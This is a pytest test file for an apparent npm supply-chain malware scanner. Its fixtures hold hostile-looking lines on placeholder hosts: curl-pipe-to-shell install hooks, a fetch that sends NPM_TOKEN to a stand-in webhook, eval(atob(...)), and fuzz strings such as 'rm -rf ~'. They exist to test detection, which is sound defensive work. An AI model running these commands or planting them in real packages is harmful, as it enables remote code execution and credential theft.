"""Engine behaviour: tree walking, deduplication, safety limits, hit and finding shape."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gouvernante.heuristic import (
    PATTERNS,
    HeuristicHit,
    engine,
    scan_package_dir,
    scan_tree,
    to_finding,
)
from gouvernante.heuristic.excerpt import excerpt
from gouvernante.model import FindingType, MatchKind
from gouvernante.vocab import Confidence, Severity

FIXTURES = Path(__file__).parent / "fixtures"
CURL_PIPE = FIXTURES / "recall" / "install-curl-pipe"


def _pkg(folder: Path, name: str, version: str = "1.0.0", files: dict[str, str] | None = None,
         scripts: dict[str, str] | None = None) -> Path:  # fmt: skip
    folder.mkdir(parents=True, exist_ok=True)
    manifest: dict[str, object] = {"name": name, "version": version}
    if scripts:
        manifest["scripts"] = scripts
    (folder / "package.json").write_text(json.dumps(manifest))
    for rel, text in (files or {}).items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_text(text)
    return folder


EVIL_SCRIPTS = {"preinstall": "curl -fsSL https://example.invalid/x | sh"}


def test_scan_tree_finds_nested_scoped_and_pnpm_layouts(tmp_path: Path) -> None:
    nm = tmp_path / "proj" / "node_modules"
    _pkg(nm / "plain", "plain", scripts=EVIL_SCRIPTS)
    _pkg(nm / "@scope" / "scoped", "@scope/scoped", scripts=EVIL_SCRIPTS)
    _pkg(nm / "plain" / "node_modules" / "nested", "nested", scripts=EVIL_SCRIPTS)
    _pkg(nm / ".pnpm" / "store-pkg@2.0.0" / "node_modules" / "store-pkg", "store-pkg", "2.0.0",
         scripts=EVIL_SCRIPTS)  # fmt: skip
    _pkg(nm / "clean", "clean", files={"index.js": "module.exports = 1;\n"})
    # a package.json deeper inside a package (not under node_modules) is not a separate package
    _pkg(nm / "clean" / "lib" / "esm", "clean-esm-marker", scripts=EVIL_SCRIPTS)
    hits, notes = scan_tree(str(tmp_path / "proj"), workers=1)
    names = sorted({h.package or "" for h in hits})
    assert names == ["@scope/scoped", "nested", "plain", "store-pkg"]
    assert all(h.pattern_id == "GH-INSTALL-FETCH-EXEC" for h in hits)
    assert any("scanned 5 package folders" in n for n in notes)


def test_scan_tree_scans_each_release_with_a_known_integrity_once(tmp_path: Path) -> None:
    nm = tmp_path / "node_modules"
    _pkg(nm / "a", "dup", scripts=EVIL_SCRIPTS)
    _pkg(nm / "b" / "node_modules" / "dup", "dup", scripts=EVIL_SCRIPTS)
    _pkg(nm / "c" / "node_modules" / "dup", "dup", "2.0.0", scripts=EVIL_SCRIPTS)
    _pkg(nm / "b", "b")
    _pkg(nm / "c", "c")
    lock = {
        "packages": {
            "node_modules/a": {"integrity": "sha512-SAME"},
            "node_modules/b/node_modules/dup": {"integrity": "sha512-SAME"},
            "node_modules/c/node_modules/dup": {"integrity": "sha512-OTHER"},
        }
    }
    (nm / ".package-lock.json").write_text(json.dumps(lock))
    hits, notes = scan_tree(str(tmp_path), workers=1)
    assert sorted((h.package, h.version) for h in hits) == [("dup", "1.0.0"), ("dup", "2.0.0")]
    assert any("1 copies of a release (same integrity) scanned once" in n for n in notes)


def test_a_package_posing_as_a_scanned_release_is_scanned(tmp_path: Path) -> None:
    """Without an integrity, a package.json's name and version are only claims: a payload that
    copies a benign release's manifest is still scanned (never skipped as a duplicate)."""
    benign = tmp_path / "one" / "node_modules" / "lodash"
    _pkg(benign, "lodash", "4.17.21", files={"index.js": "module.exports = 1;\n"})
    poser = tmp_path / "two" / "node_modules" / "lodash"
    _pkg(poser, "lodash", "4.17.21", scripts=EVIL_SCRIPTS)
    for order in ([tmp_path / "one", tmp_path / "two"], [tmp_path / "two", tmp_path / "one"]):
        hits, _notes = engine.scan_trees([str(p) for p in order], workers=1)
        assert [(h.package, h.version) for h in hits] == [("lodash", "4.17.21")]
        assert hits[0].file.startswith(str(poser))


def test_integrity_from_hidden_lockfile_keeps_different_tarballs_apart(tmp_path: Path) -> None:
    nm = tmp_path / "node_modules"
    _pkg(nm / "x", "same", scripts=EVIL_SCRIPTS)
    _pkg(nm / "y" / "node_modules" / "same", "same", scripts=EVIL_SCRIPTS)
    _pkg(nm / "y", "y")
    lock = {
        "packages": {
            "node_modules/x": {"integrity": "sha512-AAAA"},
            "node_modules/y/node_modules/same": {"integrity": "sha512-BBBB"},
        }
    }
    (nm / ".package-lock.json").write_text(json.dumps(lock))
    hits, _ = scan_tree(str(tmp_path), workers=1)
    assert len(hits) == 2


def test_scan_tree_in_parallel_matches_serial(tmp_path: Path) -> None:
    nm = tmp_path / "node_modules"
    for i in range(engine.PARALLEL_THRESHOLD + 6):
        scripts = EVIL_SCRIPTS if i % 3 == 0 else None
        _pkg(nm / f"p{i}", f"p{i}", scripts=scripts, files={"index.js": f"exports.n = {i};\n"})
    serial, _ = scan_tree(str(tmp_path), workers=1)
    parallel, notes = scan_tree(str(tmp_path), workers=2)
    assert serial == parallel
    assert len(serial) == 10
    assert any("scanned 30 package folders" in n for n in notes)


def test_symlinked_directories_are_not_followed(tmp_path: Path) -> None:
    nm = tmp_path / "node_modules"
    real = _pkg(tmp_path / "elsewhere" / "evil", "evil", scripts=EVIL_SCRIPTS)
    nm.mkdir()
    os.symlink(real, nm / "evil")
    os.symlink(tmp_path, nm / "loop")  # a loop back to the root
    pkg = _pkg(nm / "ok", "ok", files={"index.js": "module.exports = 1;\n"})
    os.symlink(pkg, pkg / "self")
    os.symlink("/etc/passwd", pkg / "linked.js")
    hits, _ = scan_tree(str(nm), workers=1)
    assert hits == []


def test_fifo_and_unreadable_files_are_skipped(tmp_path: Path) -> None:
    pkg = _pkg(tmp_path / "p", "p", scripts={"postinstall": "node setup.js"})
    os.mkfifo(pkg / "setup.js")  # would block a naive open()
    bad = pkg / "secret.js"
    bad.write_text("eval(atob('eA=='))\n")
    bad.chmod(0)
    hits = scan_package_dir(str(pkg))
    if os.geteuid() != 0:  # root can read mode-0 files
        assert hits == []
    bad.chmod(0o644)


def test_binary_files_are_skipped_and_noted(tmp_path: Path) -> None:
    pkg = _pkg(tmp_path / "node_modules" / "b", "b")
    (pkg / "native.js").write_bytes(b"\x00\x01eval(atob('x'))" * 10)
    hits, notes = scan_tree(str(tmp_path), workers=1)
    assert hits == []
    assert any("skipped 1 binary files" in n for n in notes)


def test_large_files_are_sampled_head_and_tail(tmp_path: Path) -> None:
    pkg = _pkg(tmp_path / "node_modules" / "big", "big")
    filler = ("var a = 1;\n" * (engine.MAX_FILE_BYTES // 11 + 10)).encode()
    tail = b"\neval(atob('Y29uc29sZS5sb2coMSk='));\n"
    (pkg / "bundle.js").write_bytes(b"// head\n" + filler + tail)
    hits, notes = scan_tree(str(tmp_path), workers=1)
    assert [h.pattern_id for h in hits] == ["GH-DECODE-EXEC"]
    assert hits[0].line == 0  # found in the tail sample: line unknown
    assert any("sampled 1 files" in n for n in notes)


@pytest.mark.parametrize(
    "manifest",
    [
        b"",
        b"\xff\xfe\x00",
        b"[1,2]",
        b'{"name": 5, "scripts": []}',
        b'{"scripts": {"postinstall": 7}}',
        b"[" * 100_000,
        b'{"name": "x", "version": "1", "scripts": {"install": "node ../../../etc/x"}}',
    ],
    ids=["empty", "bad-utf8", "list", "wrong-types", "script-int", "deep-nesting", "escape"],
)
def test_hostile_manifests_do_not_crash(tmp_path: Path, manifest: bytes) -> None:
    pkg = tmp_path / "p"
    pkg.mkdir()
    (pkg / "package.json").write_bytes(manifest)
    (pkg / "index.js").write_text("module.exports = 1;\n")
    assert scan_package_dir(str(pkg)) == []
    hits, _ = scan_tree(str(tmp_path), workers=1)
    assert hits == []


def test_install_reachability_stays_inside_the_package(tmp_path: Path) -> None:
    outside = tmp_path / "outside.js"
    outside.write_text("require('child_process').execSync('curl -s https://x.invalid | sh')\n")
    pkg = _pkg(tmp_path / "p", "p", scripts={"postinstall": "node ../outside.js"})
    assert scan_package_dir(str(pkg)) == []


def test_hit_fields_and_finding(tmp_path: Path) -> None:
    pkg = shutil.copytree(CURL_PIPE, tmp_path / "c")
    [hit] = scan_package_dir(str(pkg))
    assert hit == HeuristicHit(
        pattern_id="GH-INSTALL-FETCH-EXEC",
        severity=Severity.CRITICAL,
        confidence=Confidence.HIGH,
        title=PATTERNS["GH-INSTALL-FETCH-EXEC"].title,
        why=PATTERNS["GH-INSTALL-FETCH-EXEC"].why,
        file=str(pkg / "package.json"),
        line=6,
        excerpt="preinstall: curl -fsSL https://example.invalid/setup.sh | sh",
        package="fixture-install-curl-pipe",
        version="1.0.0",
    )
    f = to_finding(hit)
    assert (f.rule_id, f.rule_title, f.type, f.match) == (
        "GH-INSTALL-FETCH-EXEC",
        hit.title,
        FindingType.HEURISTIC,
        MatchKind.PATTERN,
    )
    assert (f.path, f.line, f.package, f.version, f.confidence) == (
        hit.file,
        6,
        "fixture-install-curl-pipe",
        "1.0.0",
        "high",
    )
    assert f.severity is Severity.CRITICAL
    assert f.excerpt == hit.excerpt
    assert PATTERNS["GH-INSTALL-FETCH-EXEC"].reference in f.description


def test_excerpts_are_bounded_and_mask_tokens(tmp_path: Path) -> None:
    token = "ghp_" + "A1b2C3d4E5f6G7h8I9j0" * 2
    npm = "npm_" + "Z9y8X7w6V5u4T3s2R1q0" * 2
    code = (
        "const h = 'https://webhook.site.example.invalid/x';"
        + " " * 300
        + f"const t = '{token}'; const n = \"{npm}\"; fetch(h, {{body: process.env.NPM_TOKEN}});"
        + " " * 300
    )
    pkg = _pkg(tmp_path / "p", "p", files={"index.js": code})
    hits = scan_package_dir(str(pkg))
    assert {h.pattern_id for h in hits} == {"GH-EXFIL-WEBHOOK"}
    for h in hits:
        assert len(h.excerpt) <= 160
        assert token not in h.excerpt and npm not in h.excerpt
    line = excerpt(f"x = {{ _authToken: '{token}', password: \"hunter2hunter2\" }}", 4)
    assert token not in line and "hunter2hunter2" not in line and "***" in line


def test_pattern_table_is_complete() -> None:
    docs = (Path(__file__).parents[2] / "docs" / "heuristics.md").read_text()
    for pid, p in PATTERNS.items():
        assert pid == p.id and pid.startswith("GH-") and pid.upper() == pid
        assert p.confidence in ("low", "medium", "high")
        assert p.title and p.why and p.origin
        assert p.reference.startswith("https://")
        assert f"`{pid}`" in docs, f"{pid} missing from docs/heuristics.md"


# -- properties ---------------------------------------------------------------------------------

_JS_BITS = st.sampled_from(
    [
        "eval(", "atob(", "Buffer.from(", "'base64'", ")", "(", "'", '"', "`", "+", "\n",
        "require('child_process')", "fetch(", "process.env.NPM_TOKEN", "GITHUB_TOKEN",
        "window.fetch = ", "XMLHttpRequest.prototype.open = ", "0x[a-fA-F0-9]{40}",
        ".bashrc", "shutdown -h", "rm -rf ~", "curl x | sh", "'6368696c645f70726f63657373'",
        "'Y2hpbGRfcHJvY2Vzcw=='", "'chi' + 'ld'", "String.fromCharCode(a ^ ", "createDecipher(",
        "_compile", "npm_package_description", "--yolo", "'claude'", "/user/repos", "\x00",
        "\ud7ff", "é", "\\", "{", "}",
    ]
)  # fmt: skip


@settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    body=st.one_of(
        st.binary(max_size=4096),
        st.lists(st.one_of(_JS_BITS, st.text(max_size=20)), max_size=80).map(
            lambda parts: "".join(parts).encode("utf-8", "surrogatepass")
        ),
    ),
    manifest=st.one_of(
        st.binary(max_size=512),
        st.dictionaries(
            st.sampled_from(["name", "version", "scripts", "_integrity"]),
            st.one_of(
                st.text(max_size=40),
                st.integers(),
                st.dictionaries(
                    st.sampled_from(["preinstall", "install", "postinstall"]),
                    st.one_of(st.text(max_size=80), st.just("node index.js"), st.integers()),
                ),
            ),
        ).map(lambda d: json.dumps(d).encode()),
    ),
)
def test_arbitrary_content_never_crashes(tmp_path: Path, body: bytes, manifest: bytes) -> None:
    pkg = tmp_path / "node_modules" / "fuzz"
    pkg.mkdir(parents=True, exist_ok=True)
    (pkg / "package.json").write_bytes(manifest)
    (pkg / "index.js").write_bytes(body)
    hits = scan_package_dir(str(pkg))
    tree_hits, notes = scan_tree(str(tmp_path), workers=1)
    assert tree_hits == hits or not notes[0].startswith("heuristic: scanned 1 ")
    for h in hits:
        assert h.pattern_id in PATTERNS
        assert h.confidence in ("low", "medium", "high")
        assert len(h.excerpt) <= 160
        to_finding(h)


def test_the_prefilter_fallback_gives_the_same_hits(monkeypatch: pytest.MonkeyPatch) -> None:
    """Without the ahocorasick-rs wheel (one substring test per anchor), the same decisions."""
    from gouvernante.heuristic import views

    cases = [p for kind in ("recall", "benign") for p in sorted((FIXTURES / kind).iterdir())]

    def hits() -> list[tuple[str, str, int]]:
        return [
            (h.pattern_id, h.confidence.value, h.line)
            for case in cases
            for h in scan_package_dir(str(case))
        ]

    assert views.accelerated()
    fast = hits()
    monkeypatch.setattr(views, "_acrs", None)
    views._build_prefilter.cache_clear()
    try:
        assert not views.accelerated()
        assert hits() == fast
    finally:
        monkeypatch.undo()
        views._build_prefilter.cache_clear()
    assert views.accelerated()
    assert len(fast) > 30


def test_a_bundle_whose_geo_words_are_unrelated_code_is_no_gate(tmp_path: Path) -> None:
    """workerd 1.20261123.1's worker.mjs (5 MB) bundles the TypeScript compiler, with "ru" among
    its message languages, fs helpers that walk and write, and Cloudflare's type declarations
    naming ``ip.geoip.country`` megabytes later: GH-SABOTAGE-GEO was a high finding (a helper's
    sweep of popular packages, 2026-12-06). The lookup, the targeted country and the overwrite
    must be near each other, as node-ipc's are (its recall fixture is still found)."""
    filler = "const x = 1;\n" * 20_000
    bundle = (
        'var Zee=["cs","de","es","fr","it","ja","ko","pl","pt-br","ru","tr","zh-cn"];\n'
        "function dump(d){for(const f of fs.readdirSync(d)){fs.writeFileSync(f,'')}}\n"
        + filler
        + "/** Sends a request with fetch(url). */\n"
        + "type Rule = { type: 'ip.geoip.country'; };\n"
        + filler
    )
    pkg = _pkg(tmp_path / "node_modules" / "workerd", "workerd", files={"worker.mjs": bundle})
    hits = scan_package_dir(str(pkg))
    assert [h.pattern_id for h in hits if h.pattern_id == "GH-SABOTAGE-GEO"] == []
    recall = FIXTURES / "recall" / "node-ipc-2022"
    assert "GH-SABOTAGE-GEO" in {h.pattern_id for h in scan_package_dir(str(recall))}
